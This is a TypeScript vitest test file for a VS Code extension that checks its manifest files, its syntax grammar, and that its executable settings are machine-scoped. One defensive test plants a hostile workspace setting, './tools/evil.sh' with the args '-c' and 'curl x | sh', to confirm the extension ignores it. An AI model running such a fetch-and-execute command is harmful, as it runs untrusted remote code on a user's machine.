import fs from "node:fs";
import Module, { createRequire } from "node:module";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { parseTree, type MessageNode } from "../../src/repo/textproto.js";
import { ROOT } from "../helpers/cli.js";

// editors/vscode as VS Code reads it: the files its package.json names, and its TextMate grammar
// against the sample configs (the field names it colours are the ones the parser reads).

const EXT = path.join(ROOT, "editors/vscode");
const pkg = JSON.parse(fs.readFileSync(path.join(EXT, "package.json"), "utf8"));
const grammar = JSON.parse(fs.readFileSync(path.join(EXT, "syntaxes/pbtxt.tmLanguage.json"), "utf8"));

/** Every `match`, `begin` and `end` in the grammar. */
function patterns(node: unknown, out: string[] = []): string[] {
  if (Array.isArray(node)) node.forEach((n) => patterns(n, out));
  else if (node && typeof node === "object")
    for (const [k, v] of Object.entries(node)) {
      if ((k === "match" || k === "begin" || k === "end") && typeof v === "string") out.push(v);
      else patterns(v, out);
    }
  return out;
}

function fieldNames(m: MessageNode, out: string[] = []): string[] {
  for (const f of m.fields) {
    out.push(f.name);
    const items = f.value.kind === "list" ? f.value.items : [f.value];
    for (const i of items) if (i.kind === "message") fieldNames(i, out);
  }
  return out;
}

describe("the VS Code extension", () => {
  it("names files that exist, and starts `lsp` for config.pbtxt", () => {
    expect(fs.existsSync(path.join(EXT, pkg.main))).toBe(true);
    for (const l of pkg.contributes.languages) expect(fs.existsSync(path.join(EXT, l.configuration))).toBe(true);
    for (const g of pkg.contributes.grammars) {
      expect(fs.existsSync(path.join(EXT, g.path))).toBe(true);
      expect(g.scopeName).toBe(grammar.scopeName);
    }
    expect(pkg.contributes.languages[0].filenames).toContain("config.pbtxt");
  });

  it("has a grammar whose every pattern compiles, and that colours the field names the parser reads", () => {
    for (const p of patterns(grammar)) expect(() => new RegExp(p)).not.toThrow();
    const field = new RegExp(grammar.repository.field.match, "g");
    const dir = path.join(ROOT, "models");
    for (const model of fs.readdirSync(dir)) {
      const text = fs.readFileSync(path.join(dir, model, "config.pbtxt"), "utf8");
      const code = text
        .split("\n")
        .map((l) => l.replace(/#.*$/, "").replace(/"[^"]*"/g, '""'))
        .join("\n");
      const coloured = [...code.matchAll(field)].map((m) => m[1]);
      expect(coloured, model).toEqual(fieldNames(parseTree(text).root));
    }
  });
});

/**
 * Loads the extension with a stand-in for VS Code's API (it exists only inside VS Code) whose
 * settings hold `values` per level, merged as VS Code's `get` merges them (the workspace's win);
 * returns what the extension asked the language client to start.
 */
function startedWith(values: { global?: Record<string, unknown>; workspace?: Record<string, unknown> }) {
  let started: { command: string; args: string[] } | undefined;
  const vscode = {
    workspace: {
      getConfiguration: () => ({
        get: (key: string, fallback: unknown) => values.workspace?.[key] ?? values.global?.[key] ?? fallback,
        inspect: (key: string) => ({
          key: `triton-dev.${key}`,
          globalValue: values.global?.[key],
          workspaceValue: values.workspace?.[key],
        }),
      }),
      createFileSystemWatcher: () => ({ dispose() {} }),
    },
    window: { showErrorMessage() {} },
  };
  const languageClient = {
    TransportKind: { stdio: 0 },
    LanguageClient: class {
      constructor(_id: string, _name: string, server: { command: string; args: string[] }) {
        started = server;
      }
      start() {
        return Promise.resolve();
      }
      stop() {
        return Promise.resolve();
      }
    },
  };
  const file = path.join(EXT, pkg.main);
  const loader = Module as unknown as { _load: (request: string, ...rest: unknown[]) => unknown };
  const load = loader._load;
  loader._load = (request: string, ...rest: unknown[]) =>
    request === "vscode" ? vscode : request === "vscode-languageclient/node" ? languageClient : load(request, ...rest);
  try {
    const require = createRequire(file);
    delete require.cache[file];
    const ext = require(file) as { activate: (ctx: { subscriptions: unknown[] }) => Promise<unknown> };
    void ext.activate({ subscriptions: [] });
  } finally {
    loader._load = load;
  }
  return started;
}

describe("the VS Code extension's executable settings", () => {
  it("are machine-scoped, so a workspace's .vscode/settings.json cannot set them", () => {
    const props = pkg.contributes.configuration.properties;
    expect(props["triton-dev.path"].scope).toBe("machine");
    expect(props["triton-dev.args"].scope).toBe("machine");
  });

  it("start what the user's settings say, and never what a workspace says", () => {
    expect(startedWith({})).toEqual(expect.objectContaining({ command: "triton-dev", args: ["lsp"] }));
    expect(startedWith({ global: { path: "node", args: ["/opt/td/dist/cli/main.js"] } })).toEqual(
      expect.objectContaining({ command: "node", args: ["/opt/td/dist/cli/main.js", "lsp"] }),
    );
    // A cloned repository's own settings, pointing at a script in it.
    expect(
      startedWith({ global: { path: "node" }, workspace: { path: "./tools/evil.sh", args: ["-c", "curl x | sh"] } }),
    ).toEqual(expect.objectContaining({ command: "node", args: ["lsp"] }));
  });
});
